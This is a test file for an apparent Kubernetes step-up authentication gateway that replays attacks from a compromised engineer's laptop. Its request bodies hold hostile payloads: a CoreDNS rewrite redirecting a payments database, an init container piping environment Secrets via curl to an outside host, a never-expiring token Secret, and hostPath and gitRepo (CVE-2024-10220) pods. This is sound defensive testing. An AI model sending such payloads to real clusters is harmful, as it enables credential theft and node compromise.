import { describe, expect, it } from 'vitest';
import { reasonOf, type CheckResponse } from '../support/grpc-client.js';
import { exampleServiceForFile } from '../support/workday-service.js';
import type { Login } from '../support/workday.js';

/**
 * What the eleventh replayed day (test/support/workday11.ts, docs/risk.md "Day 11") found allowed,
 * through the real gRPC server running examples/stepgate.yaml on a virtual clock, each from the
 * victim's own laptop, network, client and token (malware there), on every seed:
 * - kube-system's CoreDNS and kube-proxy ConfigMaps rewritten 25 and 50 minutes after a
 *   hardware-key sign-in the platform engineer made for `istioctl upgrade`;
 * - an init container handed a production Deployment's Secrets, patched in during an incident;
 * - a Secret of type kubernetes.io/service-account-token minted for a production namespace's
 *   deployer (a token that never expires), which a TokenRequest for the same account is not;
 * - a Pod with a `gitRepo` volume (CVE-2024-10220: the repository's hooks run on the node);
 * - Secrets listed in namespaces the team lead only ever looked at (k9s: pods, Deployments, events).
 * A test here that fails states what stepgate answers today; docs/risk.md says which are open.
 */

const s = exampleServiceForFile();
const FRI = Date.UTC(2027, 1, 12, 14, 0, 0);
const TUE = Date.UTC(2027, 1, 16, 14, 0, 0);
const M = 60_000;
const H = 3_600_000;
const OFFICE = '10.70.1.45';
const KUBECTL = 'kubectl/v1.31.4 (darwin/arm64) kubernetes/a78aa47';
const ISTIOCTL = 'istioctl/v0.0.0 (darwin/arm64) kubernetes/$Format';
const K9S = 'k9s/v0.0.0 (darwin/arm64) kubernetes/$Format';
const JSON_CT = 'application/json';
const SMP = 'application/strategic-merge-patch+json';

function send(login: Login, at: number, method: string, path: string, opts: { body?: string; contentType?: string; ua?: string } = {}): Promise<CheckResponse> {
  const { body, contentType = JSON_CT, ua = KUBECTL } = opts;
  const headers: Record<string, string> = { 'user-agent': ua, ...(body !== undefined ? { 'content-type': contentType, 'x-envoy-auth-partial-body': 'false' } : {}) };
  return s.sendAt(login, at, { method, path, source: OFFICE, headers, ...(body !== undefined ? { body } : {}) });
}

const signIn = (sub: string, at: number, acr: Login['acr'] = 'urn:stepgate:aal2', sid = `${sub}:${at}`): Login => ({ sub, sid, authTime: Math.floor(at / 1000), acr });
const rules = (res: CheckResponse) => res.dynamic_metadata?.fields.rules?.stringValue ?? '';

/** Requests that must be allowed (the victim's own routine), in order, 20 s apart from `t`. */
async function routine(login: Login, t: number, reqs: [string, string, string?, string?][], ua = KUBECTL): Promise<number> {
  for (const [method, path, body, ct] of reqs) {
    const res = await send(login, (t += 20_000), method, path, { ...(body !== undefined ? { body } : {}), ...(ct !== undefined ? { contentType: ct } : {}), ua });
    expect(res.status.code, `${method} ${path}: ${reasonOf(res)}`).toBe(0);
  }
  return t;
}

describe("kube-system's trust ConfigMaps after a hardware-key sign-in made for something else, with examples/stepgate.yaml", () => {
  it('CoreDNS and kube-proxy ConfigMaps 25 and 50 minutes after an istioctl upgrade\'s hardware key need a fresh one (cluster-trust-config)', async () => {
    const sub = 'platform-a@example.ca';
    const morning = signIn(sub, TUE - 40_000);
    await routine(morning, TUE, [
      ['GET', '/api/v1/namespaces/kube-system/configmaps/coredns'],
      ['GET', '/api/v1/namespaces/istio-system/pods?limit=500'],
    ]);
    // 15:30: the upgrade's first CRD asks a hardware key; the engineer signs in with it and goes on.
    const crd = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/wasmplugins.extensions.istio.io?fieldManager=istio-operator&force=true';
    const crdBody = JSON.stringify({ apiVersion: 'apiextensions.k8s.io/v1', kind: 'CustomResourceDefinition', metadata: { name: 'wasmplugins.extensions.istio.io' }, spec: { group: 'extensions.istio.io', names: { plural: 'wasmplugins', kind: 'WasmPlugin' }, scope: 'Namespaced', versions: [{ name: 'v1alpha1', served: true, storage: true }] } });
    const up = TUE + 1.5 * H;
    expect(reasonOf(await send(morning, up, 'PATCH', crd, { body: crdBody, contentType: 'application/apply-patch+yaml', ua: ISTIOCTL }))).toBe('acr_insufficient');
    const key = signIn(sub, up + 20_000, 'urn:stepgate:aal3', morning.sid);
    expect(reasonOf(await send(key, up + 25_000, 'PATCH', crd, { body: crdBody, contentType: 'application/apply-patch+yaml', ua: ISTIOCTL }))).toBe('allowed');
    // Malware on the same laptop, 25 minutes later: CoreDNS sends payments' database name elsewhere.
    const corefile = JSON.stringify({ data: { Corefile: '.:53 {\n    rewrite name payments-db.payments-prod.svc.cluster.local pg-relay.dbcache.net\n    kubernetes cluster.local in-addr.arpa ip6.arpa\n    forward . /etc/resolv.conf\n}\n' } });
    const dns = await send(key, up + 25 * M, 'PATCH', '/api/v1/namespaces/kube-system/configmaps/coredns?fieldManager=kubectl-edit', { body: corefile, contentType: SMP });
    expect(reasonOf(dns), rules(dns)).toBe('auth_too_old');
    expect(rules(dns)).toContain('cluster-trust-config');
    const proxy = await send(key, up + 50 * M, 'PATCH', '/api/v1/namespaces/kube-system/configmaps/kube-proxy?fieldManager=kubectl-patch', { body: JSON.stringify({ data: { 'config.conf': 'mode: iptables\nclusterCIDR: 0.0.0.0/0\n' } }), contentType: 'application/merge-patch+json' });
    expect(reasonOf(proxy), rules(proxy)).toBe('auth_too_old');
    expect(rules(proxy)).toContain('cluster-trust-config');
  });
});

describe('workloads written to read or outlive what they are handed, with examples/stepgate.yaml', () => {
  /** An on-call's day in payments-prod: the Deployment patched, its Secret read, signed in 5 hours before. */
  async function onCall(sub: string): Promise<{ login: Login; t: number }> {
    const login = signIn(sub, TUE - 40_000);
    const dep = '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api';
    const t = await routine(login, TUE, [
      ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
      ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db'],
      ['PATCH', `${dep}?fieldManager=kubectl-rollout`, JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-02-16T14:05:00Z' } } } } }), SMP],
    ]);
    // 19:20, the incident: `kubectl set env deploy/payments-api LOG_LEVEL=debug`, routine.
    const later = t + 5 * H;
    await routine(login, later, [['PATCH', `${dep}?fieldManager=kubectl-set`, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', env: [{ name: 'LOG_LEVEL', value: 'debug' }] }] } } } }), SMP]]);
    return { login, t: later + M };
  }

  // Fixed (guardrail, session 45): from the on-call's own laptop, network, client and token, in the
  // working set, within the rules' freshness: a production write that hands its pods Secrets the
  // on-call reads anyway. A release's `kubectl apply` sends every container of the same Deployment
  // too, so which container was just added is not in the body; what the container's command does
  // is: `env | curl --data-binary @-` sends the Secrets it is handed out at every start
  // (container_command_egress, critical: a hardware key within 5 minutes).
  it('an init container handed the Deployment\'s Secrets and sending them out is not allowed on the morning\'s sign-in', async () => {
    const { login, t } = await onCall('oncall-a@example.ca');
    const patch = JSON.stringify({ spec: { template: { spec: { initContainers: [{ name: 'ca-bundle', image: 'curlimages/curl:8.12.1', command: ['sh', '-c', 'env | curl -s --data-binary @- https://telemetry-cdn.net/i'], envFrom: [{ secretRef: { name: 'payments-db' } }, { secretRef: { name: 'stripe-api-key' } }] }] } } } });
    const res = await send(login, t, 'PATCH', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api?fieldManager=kubectl-patch', { body: patch, contentType: SMP });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
  });

  // Why it stays open, in figures: what the init container hands out, the same login reads outright.
  // Both Secrets by GET at the same minute, stripe-api-key never read before, are allowed (the
  // secrets rule's 8 hours, in the working set), so asking more of the patch alone would move the
  // malware to the GET. And in the replayed days 1–13 (first seed each) 103 of 412 routine
  // production workload writes carry a container with its image (releases: client-side apply,
  // `set image`), none an init container or an envFrom Secret: what tells this patch apart is a
  // container added, which a server-side apply or a PUT of the whole Deployment shows for every
  // container a release keeps.
  it("the Secrets the init container is handed are the on-call's to read outright, from the same login at the same minute", async () => {
    const { login, t } = await onCall('oncall-c@example.ca');
    for (const name of ['payments-db', 'stripe-api-key']) {
      const res = await send(login, t, 'GET', `/api/v1/namespaces/payments-prod/secrets/${name}`);
      expect(reasonOf(res), `${name}: ${rules(res)}`).toBe('allowed');
    }
  });

  it('a never-expiring token Secret for the namespace\'s deployer asks what a TokenRequest for it asks (service-account-tokens: a hardware key)', async () => {
    const { login, t } = await onCall('oncall-b@example.ca');
    const request = await send(login, t, 'POST', '/api/v1/namespaces/payments-prod/serviceaccounts/payments-deployer/token', { body: JSON.stringify({ apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: { audiences: ['https://kubernetes.default.svc.cluster.local'], expirationSeconds: 3600 } }) });
    expect(reasonOf(request)).toBe('acr_insufficient');
    const secret = JSON.stringify({ apiVersion: 'v1', kind: 'Secret', type: 'kubernetes.io/service-account-token', metadata: { name: 'payments-deployer-token', annotations: { 'kubernetes.io/service-account.name': 'payments-deployer' } } });
    const res = await send(login, t + 20_000, 'POST', '/api/v1/namespaces/payments-prod/secrets?fieldManager=kubectl-create', { body: secret });
    expect(reasonOf(res), rules(res)).toBe('acr_insufficient');
  });

  it('a Pod with a gitRepo volume (its hooks run on the node: CVE-2024-10220) asks what a hostPath does, in the engineer\'s own dev namespace', async () => {
    const login = signIn('dev-a@example.ca', TUE - 40_000);
    const t = await routine(login, TUE, [['GET', '/api/v1/namespaces/payments-dev/pods?limit=500'], ['GET', '/api/v1/namespaces/payments-dev/secrets/payments-db']]);
    const pod = (volume: Record<string, unknown>) => JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'docs-preview' }, spec: { containers: [{ name: 'web', image: 'nginx:1.27-alpine', volumeMounts: [{ name: 'site', mountPath: '/usr/share/nginx/html' }] }], volumes: [{ name: 'site', ...volume }] } });
    const hostPath = await send(login, t + 4 * H, 'POST', '/api/v1/namespaces/payments-dev/pods?fieldManager=kubectl-create', { body: pod({ hostPath: { path: '/' } }) });
    expect(reasonOf(hostPath)).toBe('acr_insufficient');
    const res = await send(login, t + 4 * H + 20_000, 'POST', '/api/v1/namespaces/payments-dev/pods?fieldManager=kubectl-create', { body: pod({ gitRepo: { repository: 'https://git.payments-docs.net/site.git', directory: '.', revision: 'main' } }) });
    expect(reasonOf(res), rules(res)).toBe('acr_insufficient');
  });
});

describe('namespaces a team lead only looks at, with examples/stepgate.yaml', () => {
  const REVIEWED = ['payments', 'ledger', 'fraud', 'search'].flatMap((t) => [`${t}-dev`, `${t}-staging`, `${t}-prod`]).concat(['data-prod', 'data-staging', 'notifications-prod', 'notifications-staging']);
  /** k9s over sixteen namespaces: pods (list and watch), Deployments, events. */
  const review = (): [string, string][] => REVIEWED.flatMap((ns): [string, string][] => [
    ['GET', `/api/v1/namespaces/${ns}/pods?limit=500`],
    ['GET', `/api/v1/namespaces/${ns}/pods?allowWatchBookmarks=true&resourceVersion=0&watch=true`],
    ['GET', `/apis/apps/v1/namespaces/${ns}/deployments?limit=500`],
    ['GET', `/api/v1/namespaces/${ns}/events?limit=500`],
  ]);

  it.fails("a Secret list in a namespace the lead only reviewed in k9s, hours after the sign-in, is a departure from the working set", async () => {
    const sub = 'lead-a@example.ca';
    for (const day of [FRI, TUE]) {
      const login = signIn(sub, day - 40_000);
      // Their own team's work first, then the review 36 minutes after the sign-in, then in the afternoon.
      await routine(login, day, [['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db'], ['GET', '/api/v1/namespaces/payments-staging/pods?limit=500']]);
      await routine(login, day + 36 * M, review(), K9S);
      if (day === FRI) await routine(login, day + 6 * H, review(), K9S);
    }
    const res = await send(signIn(sub, TUE - 40_000), TUE + 3.6 * H, 'GET', '/api/v1/namespaces/fraud-prod/secrets?limit=500');
    expect(reasonOf(res), JSON.stringify(res.dynamic_metadata?.fields ?? {}).slice(0, 400)).toBe('auth_too_old');
  });
});
